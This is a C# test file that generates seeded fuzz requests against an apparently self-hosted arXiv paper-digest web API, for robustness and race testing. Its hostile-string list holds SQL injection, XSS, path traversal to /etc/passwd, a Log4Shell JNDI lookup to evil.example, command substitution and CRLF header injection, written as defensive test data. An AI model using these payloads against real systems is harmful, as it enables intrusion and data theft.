using System.Globalization;
using System.Text;
using System.Text.RegularExpressions;
using World = Papers.EndToEnd.Tests.FuzzTests.World;

namespace Papers.EndToEnd.Tests;

/// <summary>One generated request, kept as data so that a failure can be printed in full and replayed.</summary>
internal sealed record Fuzzed(string Endpoint, string Method, string PathAndQuery, IReadOnlyList<(string Name, string Value)> Headers, byte[]? Body, string? ContentType, bool Chunked)
{
    public HttpRequestMessage ToRequest(Uri baseAddress)
    {
        // Appended, not resolved against the base: a path such as //api//papers stays a path.
        var request = new HttpRequestMessage(new HttpMethod(Method), new Uri(baseAddress.GetLeftPart(UriPartial.Authority) + PathAndQuery));
        foreach (var (name, value) in Headers)
            request.Headers.TryAddWithoutValidation(name, value);
        // Kestrel closes the connection after a request it refused at the protocol level (a request
        // line or headers too large, a bad Host, a body beyond the limit left unread): don't let the
        // next request find that connection in the pool.
        if (PathAndQuery.Length > 8_000 || Headers.Any(h => h.Name == "Host" || h.Value.Length > 4_000) || Body?.Length > 60_000)
            request.Headers.ConnectionClose = true;
        if (Body is not null)
        {
            request.Content = Chunked ? new StreamContent(new MemoryStream(Body)) : new ByteArrayContent(Body);
            if (ContentType is not null)
                request.Content.Headers.TryAddWithoutValidation("Content-Type", ContentType);
            // A body over the limit, or a request Kestrel refuses before the app sees it (a bad Host,
            // headers too large), is answered before the body is read, and the connection closed:
            // let the client hear that answer instead of a reset while it still sends.
            if (Body.Length > 60_000 || Headers.Any(h => h.Name == "Host" || h.Value.Length > 4_000))
                request.Headers.ExpectContinue = true;
        }
        return request;
    }

    public string Describe()
    {
        var text = new StringBuilder();
        text.Append(CultureInfo.InvariantCulture, $"  {Method} {Cut(PathAndQuery, 400)}\n");
        foreach (var (name, value) in Headers)
            text.Append(CultureInfo.InvariantCulture, $"  {name}: {Cut(value, 200)}\n");
        if (ContentType is not null)
            text.Append(CultureInfo.InvariantCulture, $"  Content-Type: {ContentType}\n");
        if (Body is not null)
        {
            var shown = Body.Take(600).Select(b => b is >= 0x20 and < 0x7f ? ((char)b).ToString() : $"\\x{b:x2}");
            text.Append(CultureInfo.InvariantCulture, $"  body ({Body.Length:N0} bytes{(Chunked ? ", chunked" : "")}): {string.Concat(shown)}{(Body.Length > 600 ? "…" : "")}\n");
        }
        return text.ToString();
    }

    private static string Cut(string s, int max) => s.Length <= max ? s : s[..max] + $"… ({s.Length:N0} chars)";
}

/// <summary>Generates <see cref="Fuzzed"/> requests from one <see cref="Random"/>: the same seed, the same requests.</summary>
internal sealed partial class RequestGenerator(Random random, World world, IReadOnlyList<(string Method, string Pattern)> endpoints)
{
    private static readonly string[] Methods = ["GET", "POST", "PUT", "DELETE", "PATCH", "HEAD", "OPTIONS", "TRACE", "PROPFIND"];

    private static readonly string[] Emails =
    [
        "someone@example.org", "SOMEONE@EXAMPLE.ORG", " padded@example.org ", "\"quoted local\"@example.org", "a..b@example.org", ".dot@example.org", "dot.@example.org",
        "a@example.org.", "a@-example.org", "a@exa_mple.org", "a@b@example.org", "(comment)a@example.org", "a(comment)@example.org", "a@[127.0.0.1]", "a@[IPv6:::1]",
        "=?utf-8?q?x?=@example.org", "a\\@b@example.org", "jörg@example.org", "jorg@bücher.example", "日本@例え.jp", "user@xn--.org", "user@xn--zz.example", "user@xn--bcher-kva.example",
        "Name <name@example.org>", "name@example.org, other@example.org", "name@example", "@example.org", "name@", "name", "a@b.c", "\u0000@example.org", "a\r\nBcc: x@example.org@example.org",
        new string('a', 64) + "@example.org", new string('a', 65) + "@example.org", "a@" + string.Join(".", Enumerable.Repeat(new string('b', 63), 4)) + ".org", "a@" + new string('b', 64) + ".org",
        "x@" + string.Join(".", Enumerable.Repeat("b", 200)) + ".org", "\"\"@example.org", "\"a\\\"b\"@example.org", "a+tag@example.org", "a@example.org\u200b", "a@localhost", "a@example.c0m",
    ];

    private static readonly string[] PaperIdLike =
    [
        "2401.01234", "arXiv:2510.01234v2", "hep-th/9901001", "https://arxiv.org/abs/2510.04321v1", "https://arxiv.org/pdf/2510.04321", "2510.99999", "0704.0001", "9999.99999", "2401.1234",
        "0001.00001", "p-0123456789ab", "p-", "oai:arXiv.org:2510.01234", "arxiv:2510.01234V2", "2510.01234v0", "2510.01234v99999999999", "math/0202001", "MATH/0202001", "../2510.01234",
    ];

    private static readonly string[] Topics = ["quantization", "cs.CL", "cs.LG", "CS.cl", "math.AG", "q-bio.BM", "stat.ML", "cs", "cs.XX", "diffusion models", "🦄", ""];

    private static readonly string[] Evil =
    [
        "", " ", "' OR '1'='1", "\"; DROP TABLE papers; --", "1; DELETE FROM subscribers", "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "../../../../etc/passwd",
        "..\\..\\windows\\win.ini", "\0", "%00", "${jndi:ldap://evil.example/a}", "{{7*7}}", "#{7*7}", "\u202egnp.exe", "\r\nSet-Cookie: a=b", "NaN", "Infinity", "-1", "2147483648",
        "-9223372036854775809", "1e309", "0x7fffffff", "null", "undefined", "true", "[]", "{}", "ᚠᛇᚻ", "Ω≈ç√∫", "مرحبا", "\ufeffbom", "\ud800", "\udc00", "\uffff", "a\u0301\u0301\u0301\u0301",
        "*", "%", "_", "\\", "/", "?", "#", "&", "=", "+", "%2e%2e%2f", "%ZZ", "%E0%A4%A", "Robert'); DROP TABLE Students;--", "*/", "/*", "--", ";", "|", "`id`", "$(id)",
    ];

    public Fuzzed Next()
    {
        var roll = random.Next(100);
        if (roll < 4)
            return Build("unknown route", Pick(Methods), UnknownPath(), forceBody: null);
        var (method, pattern) = Pick(endpoints);
        if (roll < 18)
        {
            var other = Pick(Methods);
            return Build(other == method ? $"{method} {pattern}" : $"other method {pattern}", other, Path(pattern), forceBody: null, pattern);
        }
        return Build($"{method} {pattern}", method, Path(pattern), forceBody: null, pattern);
    }

    /// <summary>Groups of eight requests that race on one key: an address, a vote, a key, a submission, a link.</summary>
    public IEnumerable<Fuzzed[]> RacingGroups()
    {
        var paper = world.PaperIds[0];
        for (var g = 0; g < 5; g++)
        {
            var email = $"race-{g}-{random.Next():x}@example.org";
            yield return Group(i => Json("POST /api/subscriptions/", "POST", "/api/subscriptions", Anonymous(), $"{{\"email\":\"{email}\",\"topics\":[\"cs.CL\",\"topic {i}\"]}}"));
        }
        yield return Group(i => Json("POST /api/subscriptions/", "POST", "/api/subscriptions", Anonymous(), "{\"email\":\"someone@example.org\",\"topics\":[\"quantization\"]}"));
        for (var g = 0; g < 2; g++)
            yield return Group(i => Json("POST /api/subscriptions/confirm", "POST", $"/api/subscriptions/confirm?token={world.ConfirmToken}", Anonymous(), null));
        for (var g = 0; g < 4; g++)
        {
            var target = world.PaperIds[g % world.PaperIds.Count];
            yield return Group(i => Json(i % 2 == 0 || g < 2 ? "POST /api/papers/{id}/upvote/" : "DELETE /api/papers/{id}/upvote/", i % 2 == 0 || g < 2 ? "POST" : "DELETE",
                $"/api/papers/{target}/upvote", Visitor(), null));
        }
        for (var g = 0; g < 2; g++)
            yield return Group(i => Json(i % 2 == 0 ? "POST /api/papers/{id}/upvote/" : "DELETE /api/papers/{id}/upvote/", i % 2 == 0 ? "POST" : "DELETE",
                $"/api/papers/{paper}/upvote", Key(world.MemberKey), null));
        yield return Group(i => Json("POST /api/papers/submit", "POST", "/api/papers/submit", Key(world.MemberKey), $"{{\"title\":\"Racing submission {i}\",\"summary\":\"eight at once\"}}"));
        yield return Group(i => Json("POST /api/papers/submit", "POST", "/api/papers/submit", Visitor(), $"{{\"arxivId\":\"{HardenedHostFixture.ArxivPapers[1]}\"}}"));
        yield return Group(i => Json("POST /api/admin/submissions/{id:guid}/approve", "POST", $"/api/admin/submissions/{world.PendingSubmission}/{(i % 2 == 0 ? "approve" : "reject")}", Key(world.AdminKey), null));
        yield return Group(i => Json("DELETE /api/admin/keys/{id}", "DELETE", $"/api/admin/keys/{world.ThrowawayKeyId}", Key(world.AdminKey), null));
        yield return Group(i => Json("POST /api/admin/keys", "POST", "/api/admin/keys", Key(world.AdminKey), $"{{\"name\":\"racing key\",\"scopes\":[\"vote\"],\"requestsPerMinute\":{i + 1}}}"));
        yield return Group(i => Json("POST /api/digests/run", "POST", "/api/digests/run", Key(world.AdminKey), null));
        yield return Group(i => Json("GET /api/session", "GET", "/api/session", Visitor(), null));
        var address = RandomAddress();
        yield return Group(i => Json("GET /api/session", "GET", "/api/session", [("X-Forwarded-For", address)], null));
        yield return Group(i => Json("GET /api/papers/search", "GET", $"/api/papers/search?q=quantized%20attention%20{i}&limit=5", Key(world.ReaderKey), null));
        yield return Group(i => Json("POST /embed", "POST", "/embed", Key(world.MemberKey), $"{{\"texts\":[\"racing text {i}\",\"another one\"]}}"));
        yield return Group(i => Json("GET /api/papers/{id}", "GET", $"/api/papers/{paper}", Anonymous(), null));
    }

    private Fuzzed[] Group(Func<int, Fuzzed> make) => [.. Enumerable.Range(0, 8).Select(make)];

    private static Fuzzed Json(string endpoint, string method, string path, IReadOnlyList<(string, string)> headers, string? body) =>
        new(endpoint, method, path, headers, body is null ? null : Encoding.UTF8.GetBytes(body), body is null ? null : "application/json", false);

    private Fuzzed Build(string label, string method, string path, byte[]? forceBody, string? pattern = null)
    {
        var headers = Headers();
        var query = Query(pattern);
        var pathAndQuery = path + query;
        if (!Uri.TryCreate("http://localhost" + pathAndQuery, UriKind.Absolute, out _))
            pathAndQuery = path.Split('?')[0];
        var wantsBody = method is "POST" or "PUT" or "PATCH" or "DELETE" ? random.Next(100) < 85 : method == "GET" && random.Next(100) < 4;
        if (!wantsBody)
            return new Fuzzed(label, method, pathAndQuery, headers, forceBody, null, false);
        var (body, contentType) = Body(pattern);
        return new Fuzzed(label, method, pathAndQuery, headers, body, contentType, random.Next(100) < 5);
    }

    // ---- paths and queries ----

    private string Path(string pattern)
    {
        // Static files' routes are written without the leading slash (static/app.css).
        if (!pattern.StartsWith('/'))
            pattern = "/" + pattern;
        var path = Parameter().Replace(pattern, m => m.Groups[2].Value == ":guid" ? GuidValue() : m.Groups[1].Value == "documentName" ? Chance(70) ? "v1" : Segment() : IdValue());
        return path.Length > 1 && path.EndsWith('/') && Chance(50) ? path.TrimEnd('/') : path;
    }

    private string IdValue() => random.Next(10) switch
    {
        < 5 => Pick(world.PaperIds),
        5 => Uri.EscapeDataString(Pick(PaperIdLike)),
        6 => world.ThrowawayKeyId,
        _ => Segment(),
    };

    private string GuidValue() => random.Next(6) switch
    {
        0 or 1 => world.PendingSubmission.ToString(),
        2 => Guid.Empty.ToString(),
        3 => new Guid(Bytes(16)).ToString(),
        _ => Segment(),
    };

    private string Segment() => random.Next(8) switch
    {
        0 => "..",
        1 => "%2e%2e",
        2 => "%00",
        3 => new string('x', random.Next(200, 4_000)),
        4 => "%ZZ",
        5 => Uri.EscapeDataString("ü/ß?#" + Pick(Evil)),
        _ => Uri.EscapeDataString(Pick(Evil)),
    };

    private string UnknownPath() => Pick(new[] { "/nope", "/api", "/api/", "/api/papers/a/b/c", "/.env", "/admin", "/api/admin", "/wp-login.php", "/%2e%2e/%2e%2e/etc/passwd", "/api/papers/" + Segment(), "//api//papers", "/app.js/", "/openapi/v2.json", "/health", "/api/subscriptions/manage/x" });

    private string Query(string? pattern)
    {
        if (!Chance(pattern is null ? 30 : 75))
            return "";
        var names = new[] { "date", "week", "month", "p", "limit", "sort", "q", "cursor", "status", "source", "token", "ids", "from", "to", "category", "topic", "author", "fields", "abstract", "format", Pick(Evil) };
        var parts = new List<string>();
        for (var i = random.Next(1, 5); i > 0; i--)
        {
            var name = Pick(names);
            parts.Add(Escape(name) + "=" + Escape(QueryValue(name)));
        }
        if (Chance(3))
            parts.Add("limit=1&limit=2");
        if (Chance(2))
            parts.Add("noequals");
        return "?" + string.Join("&", parts);
    }

    private string Escape(string value) => Chance(8) ? value.Replace("&", "%26", StringComparison.Ordinal).Replace("#", "%23", StringComparison.Ordinal).Replace(" ", "+", StringComparison.Ordinal) : Uri.EscapeDataString(value);

    private string QueryValue(string name)
    {
        if (Chance(4))
            return new string(Pick(new[] { 'a', 'é', '9', '%' }), Chance(20) ? random.Next(9_000, 20_000) : random.Next(2_000, 6_500));
        if (Chance(20))
            return Pick(Evil);
        return name switch
        {
            "cursor" when Chance(20) => Convert.ToBase64String(Bytes(random.Next(1, 300))),
            "token" => Pick(new[] { world.ConfirmToken, world.ConfirmToken[..(world.ConfirmToken.Length / 2)], world.ConfirmToken + "x", "CfDJ8" + new string('A', 200), Convert.ToBase64String(Bytes(random.Next(1, 200))), new string('t', 2_500) }),
            _ => QueryValues.TryGetValue(name, out var values) ? Pick(values) : Pick(Evil),
        };
    }

    /// <summary>Edge values of each query parameter the endpoints read.</summary>
    private static readonly Dictionary<string, string[]> QueryValues = new()
    {
        ["date"] = ["2025-11-07", "2025-11-06", "9999-12-31", "0001-01-01", "0000-00-00", "2025-02-30", "2025-11-07T00:00:00Z", "20251107", "-2025-11-07", DateTime.UtcNow.ToString("yyyy-MM-dd", CultureInfo.InvariantCulture)],
        ["week"] = ["2025-W45", "9999-W52", "9998-W52", "2025-W00", "2025-W54", "0001-W01", "2025W45", "2025-w45", "-001-W01", "2025-W4５", "2026-W53", "2020-W53"],
        ["month"] = ["2025-11", "9999-12", "10000-01", "2025-13", "0000-01", "2025-1", "２０２５-11"],
        ["p"] = ["0", "-1", "1", "50", "100", "101", "120", "121", "10000", "10001", "21474837", "2147483647", "2147483648", "-2147483649", "1e3", "0x10", " 5", "", "1.5", "٣"],
        ["limit"] = ["0", "-1", "1", "50", "100", "101", "120", "121", "10000", "2147483647", "2147483648", "-2147483649", "1e3", " 5", "", "1.5", "٣"],
        ["sort"] = ["publishedAt", "trending", "PUBLISHEDAT", "publishedAt,trending", ""],
        ["q"] = ["quantization", "attention is all you need", new string('q', 250), new string('q', 251), "🦄🦄", "\u200b", "\"", "a AND b OR c", "title:x", "*:*", "~", "-", "😀" + new string('a', 249), "\ufffd", "\u0301", "..."],
        ["cursor"] = [Convert.ToBase64String(Encoding.UTF8.GetBytes("2025-11-07|p-0")), Convert.ToBase64String(Encoding.UTF8.GetBytes("9999-99-99|x")), Convert.ToBase64String(Encoding.UTF8.GetBytes("2025-11-07")), Convert.ToBase64String(Encoding.UTF8.GetBytes("0001-01-01|\u0000")), "====", "a", "-_-_"],
        ["status"] = ["pending", "listed", "rejected", "Pending,Listed", "1", "-1", "PENDING", "Pending, Rejected", "7", "Pending|Listed"],
        ["source"] = ["arxiv-oai:arXivRaw:*", "", " ", new string('s', 201)],
        // The pages' and /v1's filters, feeds and field selection.
        ["from"] = ["2025-11-01", "9999-12-31", "0001-01-01", "2025-02-30", "2025-W45", ""],
        ["to"] = ["2025-11-30", "0001-01-01", "9999-12-31", "2025-13-01", ""],
        ["category"] = ["cs.CL", "cs", "CS.CL", "cs.XX", "math.AG", "<b>cs</b>", ""],
        ["topic"] = ["quantization", "cs.CL", "🦄", "diffusion models", new string('t', 300), ""],
        ["author"] = ["Ada Lovelace", "A. B.", "\u0000", "O'Brien", new string('a', 400), ""],
        ["fields"] = ["id,title", "id", "", ",", "title,,title", "nope", "id," + new string('f', 3_000), "*"],
        ["abstract"] = ["We quantize attention.", new string('a', 2_000), new string('a', 2_001), "\u0301", ""],
        ["format"] = ["rss", "atom", "RSS", "json", "", "rss,atom"],
    };

    /// <summary>
    /// Every edge value once, where it is read, in an otherwise well-formed request: each address
    /// of <see cref="Emails"/> subscribing, each id of <see cref="PaperIdLike"/> submitted, each query
    /// value on the endpoints that read it, each hostile string as a paper id and a query.
    /// </summary>
    public IEnumerable<Fuzzed> Sweep()
    {
        foreach (var email in Emails)
            yield return Json("POST /api/subscriptions/", "POST", "/api/subscriptions", Anonymous(), $"{{\"email\":{Str(email)},\"topics\":[\"cs.CL\"]}}");
        foreach (var id in PaperIdLike)
            yield return Json("POST /api/papers/submit", "POST", "/api/papers/submit", Visitor(), $"{{\"arxivId\":{Str(id)}}}");
        foreach (var (name, values) in QueryValues)
        {
            var (endpoint, path, headers) = name switch
            {
                "q" => ("GET /api/papers/search", "/api/papers/search", Anonymous()),
                "cursor" => ("GET /api/papers/", "/api/papers/", Anonymous()),
                "status" => ("GET /api/admin/submissions", "/api/admin/submissions", Key(world.AdminKey)),
                "source" => ("GET /api/ingest/gaps", "/api/ingest/gaps", Key(world.AdminKey)),
                "from" or "to" or "category" or "topic" or "author" or "fields" => ("GET /v1/papers", "/v1/papers", Anonymous()),
                "abstract" or "format" => ("GET /search", "/search", Anonymous()),
                _ => ("GET /api/daily_papers", "/api/daily_papers", Anonymous()),
            };
            foreach (var value in values)
                yield return Json(endpoint, "GET", $"{path}?{name}={Uri.EscapeDataString(value)}", headers, null);
        }
        foreach (var evil in Evil)
        {
            yield return Json("GET /api/papers/{id}", "GET", $"/api/papers/{Uri.EscapeDataString(evil)}", Anonymous(), null);
            yield return Json("GET /api/papers/search", "GET", $"/api/papers/search?q={Uri.EscapeDataString(evil)}", Anonymous(), null);
            yield return Json("POST /embed", "POST", "/embed", Key(world.MemberKey), $"{{\"texts\":[{Str(evil)}]}}");
            yield return Json("POST /v1/search", "POST", "/v1/search", Anonymous(), $"{{\"abstract\":{Str(evil)}}}");
            // The pages' "paste an abstract" form, which random bodies seldom encode as a form.
            yield return new("POST /search", "POST", "/search", Anonymous(), Encoding.UTF8.GetBytes("abstract=" + Uri.EscapeDataString(evil)),
                "application/x-www-form-urlencoded", false);
        }
    }

    // ---- headers ----

    private List<(string, string)> Headers()
    {
        var headers = new List<(string, string)>();
        switch (random.Next(100))
        {
            case < 30:
                break;
            case < 42:
                headers.AddRange(Key(world.AdminKey));
                break;
            case < 58:
                headers.AddRange(Key(world.MemberKey));
                break;
            case < 62:
                headers.AddRange(Key(world.ReaderKey));
                break;
            case < 82:
                headers.AddRange(Visitor());
                break;
            case < 92:
                headers.Add(("Authorization", GarbageAuthorization()));
                break;
            default:
                headers.Add(("Cookie", GarbageCookie()));
                break;
        }
        if (Chance(5))
            headers.Add(("X-CSRF-TOKEN", Pick(new[] { "", "garbage", world.AntiforgeryToken[..(world.AntiforgeryToken.Length / 2)], world.AntiforgeryToken + "A", new string('A', 5_000) })));
        var forwarded = random.Next(100);
        if (forwarded < 60)
            headers.Add(("X-Forwarded-For", RandomAddress()));
        else if (forwarded < 72)
            headers.Add(("X-Forwarded-For", Pick(new[] { "unknown", "1.2.3.4, 5.6.7.8", "::ffff:1.2.3.4", "999.1.1.1", "1.2.3.4:80", "[::1]:80", "", " , ,", "1.2.3.4 5.6.7.8", "fe80::1%eth0", string.Join(",", Enumerable.Range(0, 200).Select(i => $"10.0.{i}.1")), "ü.example", "\"1.2.3.4\"" })));
        if (Chance(4))
            headers.Add(("X-Forwarded-Proto", Pick(new[] { "https", "gopher", "", "http, https", "HTTPS" })));
        if (Chance(3))
            headers.Add(("X-Forwarded-Host", "evil.example"));
        if (Chance(3))
            headers.Add(("Accept", Pick(new[] { "application/xml", "*/*;q=abc", "text/html", "" })));
        if (Chance(2))
            headers.Add(("Host", Pick(new[] { "evil.example", "evil.example:99999", "a b", "" })));
        if (Chance(2))
            headers.Add(("X-Voter-Id", Pick(Evil)));
        if (Chance(1))
            headers.Add(("X-Big", new string('h', random.Next(10_000, 40_000))));
        return headers;
    }

    private string GarbageAuthorization() => random.Next(12) switch
    {
        0 => "Bearer",
        1 => "Bearer ",
        2 => "Bearer pk_",
        3 => $"Bearer pk_{Convert.ToHexStringLower(Bytes(6))}_{new string('A', 43)}",
        4 => "Basic YWRtaW46YWRtaW4=",
        5 => "Bearer " + new string('x', random.Next(100, 6_000)),
        6 => "bearer " + world.AdminKey,
        7 => "Bearer " + world.AdminKey + " extra",
        8 => "Bearer " + world.AdminKey[..^1] + "ü",
        9 => "Bearer " + world.MemberKey.ToUpperInvariant(),
        10 => "Negotiate " + Convert.ToBase64String(Bytes(32)),
        _ => Pick(Evil),
    };

    private string GarbageCookie() => random.Next(6) switch
    {
        0 => "papers.visitor=garbage",
        1 => "papers.visitor=" + Convert.ToBase64String(Bytes(random.Next(10, 600))),
        2 => world.VisitorCookies[..(world.VisitorCookies.Length * 2 / 3)],
        3 => string.Concat(Enumerable.Repeat("a=b; ", random.Next(10, 800))),
        4 => "papers.visitor=ü; papers.csrf=\u0001",
        _ => "papers.csrf=" + Convert.ToBase64String(Bytes(40)),
    };

    private List<(string, string)> Key(string key) => [("Authorization", "Bearer " + key), ("X-Forwarded-For", RandomAddress())];

    private List<(string, string)> Visitor() =>
        [("Cookie", world.VisitorCookies), ("X-CSRF-TOKEN", Chance(85) ? world.AntiforgeryToken : "CfDJ8garbage"), ("X-Forwarded-For", RandomAddress())];

    private List<(string, string)> Anonymous() => [("X-Forwarded-For", RandomAddress())];

    private string RandomAddress() => Chance(92)
        ? $"{random.Next(1, 224)}.{random.Next(256)}.{random.Next(256)}.{random.Next(1, 255)}"
        : $"2001:db8:{random.Next(65536):x}:{random.Next(65536):x}::{random.Next(1, 65536):x}";

    // ---- bodies ----

    private (byte[] Body, string? ContentType) Body(string? pattern)
    {
        var contentType = random.Next(100) switch
        {
            < 72 => "application/json",
            < 76 => "application/json; charset=utf-8",
            < 79 => null,
            < 82 => "text/plain",
            < 85 => "application/x-www-form-urlencoded",
            < 88 => "multipart/form-data; boundary=xyz",
            < 90 => "application/json; charset=utf-16",
            < 92 => "application/xml",
            < 94 => "application/merge-patch+json",
            < 96 => "application/problem+json",
            _ => Pick(new[] { "???", "application/json; charset=nonsense", "multipart/form-data", "*/*", "" }),
        };
        string text;
        switch (random.Next(100))
        {
            case < 55:
                text = Shaped(pattern);
                break;
            case < 60:
                text = "";
                break;
            case < 64:
                text = Pick(new[] { "hello", "<xml>a</xml>", "a=b&c=d", "--xyz\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\nb\r\n--xyz--", "\u0000\u0001\u0002", "{", "}", "[", "{\"a\":", "{\"a\" 1}", "{'a': 1}", "{a: 1}" });
                break;
            case < 70:
                text = Value(0);
                break;
            case < 74:
                var depth = Pick(new[] { 65, 200, 5_000, 30_000 });
                text = Chance(50) ? new string('[', depth) + new string(']', depth) : string.Concat(Enumerable.Repeat("{\"a\":", depth)) + "1" + new string('}', depth);
                break;
            case < 78:
                text = $"{{\"title\":\"{new string('T', random.Next(60_000, 400_000))}\",\"email\":\"x@example.org\",\"texts\":[\"a\"]}}";
                break;
            case < 81:
                text = "{" + string.Join(",", Enumerable.Range(0, random.Next(1_000, 8_000)).Select(i => $"\"k{i}\":{i}")) + "}";
                break;
            case < 84:
                text = "{\"email\":\"a@example.org\",\"email\":\"b@example.org\",\"topics\":[\"cs.CL\"],\"topics\":null}";
                break;
            case < 88:
                var shaped = Shaped(pattern);
                text = shaped[..random.Next(shaped.Length + 1)];
                break;
            case < 91:
                text = "\ufeff" + Shaped(pattern);
                break;
            case < 93:
                text = Shaped(pattern) + Pick(new[] { "}{", " trailing", "\u0000", "/* c */", ",", "]" });
                break;
            default:
                // Invalid UTF-8 inside a string of an otherwise well-formed body.
                var bytes = new List<byte>(Encoding.UTF8.GetBytes("{\"title\":\""));
                bytes.AddRange(Pick(new[] { new byte[] { 0xc3, 0x28 }, [0xff, 0xfe], [0xed, 0xa0, 0x80], [0xf4, 0x90, 0x80, 0x80], [0xc0, 0xaf], [0xe2, 0x82] }));
                bytes.AddRange(Encoding.UTF8.GetBytes("\",\"summary\":\"s\",\"email\":\"a@example.org\",\"topics\":[\"x\"],\"texts\":[\"t\"],\"ids\":[\"i\"],\"name\":\"n\"}"));
                return ([.. bytes], contentType);
        }
        var encoding = contentType?.Contains("utf-16", StringComparison.Ordinal) == true && Chance(50) ? Encoding.Unicode : Encoding.UTF8;
        return (encoding.GetBytes(text), contentType);
    }

    /// <summary>A body in the shape the endpoint reads, each field plausible, hostile or of the wrong type.</summary>
    private string Shaped(string? pattern)
    {
        var fields = pattern switch
        {
            "/api/papers/submit" => new[] { "arxivId", "title", "summary", "authors" },
            "/api/subscriptions/" => ["email", "topics", "customTopics"],
            "/api/subscriptions/manage" => ["topics", "customTopics"],
            "/api/admin/keys" => ["name", "scopes", "requestsPerMinute"],
            "/api/papers/status" => ["ids"],
            "/embed" => ["texts"],
            _ => [Pick(new[] { "email", "title", "texts", "ids", "name" })],
        };
        var members = new List<string>();
        foreach (var field in fields)
        {
            if (!Chance(80))
                continue;
            members.Add($"{Str(Chance(95) ? field : field.ToUpperInvariant())}:{(Chance(65) ? Plausible(field) : Value(1))}");
        }
        if (Chance(10))
            members.Add($"{Str(Pick(Evil))}:{Value(1)}");
        return "{" + string.Join(",", members.OrderBy(_ => random.Next())) + "}";
    }

    private string Plausible(string field) => field switch
    {
        "email" => Str(Chance(60) ? Pick(Emails) : $"fuzz-{random.Next(1_000_000)}@example.org"),
        "arxivId" => Str(Chance(50) ? Pick(world.PaperIds) : Pick(PaperIdLike)),
        "title" => Str(Chance(30) ? "x z" : Chance(50) ? $"Fuzzed title {random.Next(1_000_000)}" : Pick(Evil) + new string('t', random.Next(0, 1_100))),
        "summary" => Str(Chance(70) ? "y" : new string('s', random.Next(0, 21_000))),
        "authors" => Array(random.Next(0, Chance(5) ? 120 : 4), () => Chance(80) ? Str("Author " + random.Next(100)) : Value(2)),
        "topics" => Array(random.Next(0, Chance(10) ? 30 : 4), () => Chance(85) ? Str(Pick(Topics)) : Value(2)),
        "customTopics" => Array(random.Next(0, Chance(10) ? 25 : 3), CustomTopic),
        "name" => Str(Chance(70) ? "fuzz key" : new string('n', random.Next(0, 150))),
        "scopes" => Array(random.Next(0, Chance(5) ? 12 : 3), () => Chance(85) ? Str(Pick(new[] { "vote", "submit", "admin", "read", "root", "" })) : Value(2)),
        "requestsPerMinute" => Pick(new[] { "1", "0", "-1", "1000000", "1000001", "2147483647", "2147483648", "1.5", "1e9", "\"60\"", "null" }),
        "ids" => Array(random.Next(0, Chance(5) ? 1_100 : 10), () => Chance(70) ? Str(Chance(50) ? Pick(world.PaperIds) : Pick(PaperIdLike)) : Value(2)),
        "texts" => Array(Chance(5) ? 65 : random.Next(0, 4), () => Chance(85) ? Str(Chance(90) ? $"text about {Pick(Topics)}" : new string('w', random.Next(9_990, 10_010))) : Value(2)),
        _ => Value(1),
    };

    private string CustomTopic()
    {
        if (!Chance(85))
            return Value(2);
        var members = new List<string>();
        if (Chance(90))
            members.Add($"\"name\":{(Chance(80) ? Str(Pick(new[] { "my topic", "cs.CL", "", new string('n', 101), $"topic {random.Next(5)}" })) : Value(3))}");
        if (Chance(60))
            members.Add($"\"description\":{(Chance(85) ? Str(Chance(90) ? "papers about data" : new string('d', 2_001)) : Value(3))}");
        if (Chance(60))
            members.Add($"\"examples\":{Array(random.Next(0, Chance(10) ? 12 : 3), () => Str(Pick(new[] { Pick(world.PaperIds), "2512.99999v2", "A title. An abstract.", new string('e', 10_001), "" })))}");
        return "{" + string.Join(",", members) + "}";
    }

    /// <summary>Any JSON value, including ones no field wants.</summary>
    private string Value(int depth) => random.Next(depth > 3 ? 10 : 14) switch
    {
        0 => "null",
        1 => "true",
        2 => "false",
        3 => Pick(new[] { "0", "-1", "2147483647", "2147483648", "-2147483649", "99999999999999999999999", "1e309", "-0", "1.5", "1e-400", "0.1e1" }),
        4 or 5 or 6 => Str(Pick(Evil)),
        7 => "\"\\ud800\"",
        8 => "\"x\\udc00\\ud800\"",
        9 => Str(new string('v', random.Next(0, 3_000))),
        10 => Chance(5) ? "[" + string.Join(",", Enumerable.Repeat("1", 5_000)) + "]" : Array(random.Next(0, 5), () => Value(depth + 1)),
        11 => "{" + string.Join(",", Enumerable.Range(0, random.Next(0, 4)).Select(_ => $"{Str(Pick(Evil))}:{Value(depth + 1)}")) + "}",
        12 => new string('[', 70) + new string(']', 70),
        _ => "\"raw\tcontrol\u0001\"",
    };

    private string Array(int count, Func<string> item) => "[" + string.Join(",", Enumerable.Range(0, count).Select(_ => item())) + "]";

    private static string Str(string value)
    {
        var text = new StringBuilder("\"");
        foreach (var c in value)
        {
            if (c is '"' or '\\')
                text.Append('\\').Append(c);
            else if (c < 0x20 || char.IsSurrogate(c))
                text.Append(CultureInfo.InvariantCulture, $"\\u{(int)c:x4}");
            else
                text.Append(c);
        }
        return text.Append('"').ToString();
    }

    private bool Chance(int percent) => random.Next(100) < percent;

    private T Pick<T>(IReadOnlyList<T> items) => items[random.Next(items.Count)];

    private byte[] Bytes(int count)
    {
        var bytes = new byte[count];
        random.NextBytes(bytes);
        return bytes;
    }

    [GeneratedRegex(@"\{([^}:]+)(:[^}]+)?\}")]
    private static partial Regex Parameter();
}
